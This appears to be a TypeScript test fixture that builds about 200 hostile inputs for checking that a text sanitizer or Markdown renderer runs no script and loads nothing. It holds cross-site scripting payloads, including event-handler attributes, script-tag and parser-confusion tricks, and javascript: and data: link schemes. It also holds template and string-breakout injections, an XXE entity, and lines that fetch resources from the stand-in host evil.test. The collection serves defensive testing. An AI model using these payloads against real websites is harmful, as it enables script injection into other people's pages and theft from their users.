/** What a text must do nothing of: run a script, load something, or become an element. Each calls `ran`, or leaves an element with `data-ran`. */
const run = 'ran()';

const events = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'oncut',
  'onwheel',
];

const elements: readonly string[] = [
  ...events.flatMap((event) => [
    `<img src=x ${event}=${run} data-ran>`,
    `<svg ${event}=${run} data-ran><animate ${event}=${run} attributeName=x dur=1s>`,
    `<details open ${event}='${run}' data-ran><summary>a`,
    `<input autofocus ${event}="${run}" data-ran>`,
    `"><body ${event}=${run} data-ran>`,
    `' ${event}=${run} data-ran x='`,
  ]),
  `<script data-ran>${run}</script>`,
  `<ScRiPt data-ran>${run}</sCrIpT>`,
  `<script data-ran src="https://evil.test/a.js"></script>`,
  `</script><script data-ran>${run}</script>`,
  `</style><script data-ran>${run}</script>`,
  `</title><script data-ran>${run}</script>`,
  `</textarea><script data-ran>${run}</script>`,
  `--><script data-ran>${run}</script>`,
  `]]><script data-ran>${run}</script>`,
  `<scr<script>ipt data-ran>${run}</scr</script>ipt>`,
  `<script\u0020/data-ran>${run}</script\u0020>`,
  `<iframe data-ran src="javascript:parent.${run}"></iframe>`,
  `<iframe data-ran srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data-ran data="javascript:${run}"></object>`,
  `<embed data-ran src="javascript:${run}">`,
  `<base data-ran href="https://evil.test/">`,
  `<link data-ran rel=stylesheet href="https://evil.test/a.css">`,
  `<meta data-ran http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style data-ran>@import 'https://evil.test/a.css';</style>`,
  `<div data-ran style="background:url(https://evil.test/a.png)">a</div>`,
  `<form data-ran action="javascript:${run}"><button>a</button></form>`,
  `<button data-ran form=x formaction="javascript:${run}">a</button>`,
  `<math><mtext><table><mglyph><style><img data-ran src=x onerror=${run}>`,
  `<svg><style><img data-ran src=x onerror=${run}></style></svg>`,
  `<noscript><p title="</noscript><img data-ran src=x onerror=${run}>">`,
  `<template><img data-ran src=x onerror=${run}></template>`,
  `<video data-ran><source onerror=${run}></video>`,
  `<audio data-ran src=x onerror=${run}></audio>`,
  `<marquee data-ran onstart=${run}>a</marquee>`,
  `<a data-ran href="javascript:${run}">a</a>`,
  `<svg><a data-ran xlink:href="javascript:${run}"><text>a</text></a></svg>`,
  `<svg><use data-ran href="data:image/svg+xml,<svg onload=${run}>"></use></svg>`,
  `<img data-ran src="https://evil.test/a.png">`,
  `<p data-ran>a</p>`,
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
];

const links: readonly string[] = schemes.flatMap((scheme) => [
  `${scheme}${run}`,
  `[a](${scheme}${run})`,
  `[a](<${scheme}${run}>)`,
  `![a](${scheme}${run})`,
  `<${scheme}${run}>`,
  `[a][1]\n\n[1]: ${scheme}${run}`,
]);

const markdown: readonly string[] = [
  '![a](https://evil.test/a.png)',
  '![a](//evil.test/a.png)',
  `[a](x "y" onmouseover="${run}" data-ran z="")`,
  `\`\`\`<img data-ran src=x onerror=${run}>\n${run}\n\`\`\``,
  `| a | b |\n|---|---|\n| <img data-ran src=x onerror=${run}> | c |`,
  `# <img data-ran src=x onerror=${run}>`,
  `- [ ] <img data-ran src=x onerror=${run}>`,
  `[^1]: <img data-ran src=x onerror=${run}>`,
  `&lt;img data-ran src=x onerror=${run}&gt;`,
  `&#60;img data-ran src=x onerror=${run}&#62;`,
  `%3Cimg data-ran src=x onerror=${run}%3E`,
  `\\u003cimg data-ran src=x onerror=${run}\\u003e`,
  `\uff1cimg data-ran src=x onerror=${run}\uff1e`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `';${run};'`,
  `";${run};"`,
  `\`;${run};\``,
  `\\";${run};//`,
  `\u2028${run}\u2029`,
  `__proto__`,
  `constructor`,
  `\u202e<img data-ran src=x onerror=${run}>`,
  `<!--[if true]><script data-ran>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.test/">]><a data-ran>&b;</a>`,
  `xss:expression(${run})`,
];

const plain = [...elements, ...links, ...markdown];

/** Two hundred: the plain ones, and as many of them again in capitals and in the middle of a sentence as are left. */
export const hostileTexts: readonly string[] = [
  ...plain,
  ...plain.map((text) => `a ${text.toUpperCase().replaceAll('RAN()', run)} b`),
].slice(0, 200);

export const hostileHost = 'evil.test';
